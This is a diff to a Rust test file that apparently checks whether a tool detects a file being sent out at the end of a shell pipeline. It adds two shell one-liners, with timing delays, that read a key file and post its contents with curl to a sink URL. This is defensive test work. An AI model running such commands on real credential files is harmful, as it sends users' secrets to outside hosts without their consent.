@@ -83,6 +83,9 @@ pub fn seen_at_the_end_of_a_pipeline() {
         "(sleep 1; x=$(cat \"$1\"); printf %s \"$x\") | curl -s -d @- \"$2\"; :",
         "x=$(cat \"$1\"); printf %s \"$x\" | curl -s -d @- \"$2\"; :",
         "cat \"$1\" | while read -r line; do echo \"$line\"; done | curl -s -d @- \"$2\"; :",
+        // A shell's own command that has ended before the next begins, and one that goes on while it sends.
+        "cat \"$1\" | while read -r x; do echo \"$x\"; done | ($COUNT; exec curl -s -d @- \"$2\"); :",
+        "cat \"$1\" | while read -r x; do echo \"$x\"; $COUNT; done | curl -s -X POST -T - \"$2\"; :",
     ];
     for place in ["home/key.json", "elsewhere/key"] {
         let file = scratch.join(place);
@@ -90,8 +93,9 @@ pub fn seen_at_the_end_of_a_pipeline() {
             let running: Vec<_> = (0..scripts.len())
                 .map(|n| {
                     let (_, file) = key(&scratch, &format!("{}{n}.json", file.display()));
-                    let (script, sink) = (scripts[n], &sink);
-                    scope.spawn(move || (run(script, &file, sink), file))
+                    let count = "i=0; while [ $i -lt 300000 ]; do i=$((i+1)); done";
+                    let (script, sink) = (scripts[n].replace("$COUNT", count), &sink);
+                    scope.spawn(move || (run(&script, &file, sink), file))
                 })
                 .collect();
             running.into_iter().map(|r| r.join().unwrap()).collect()
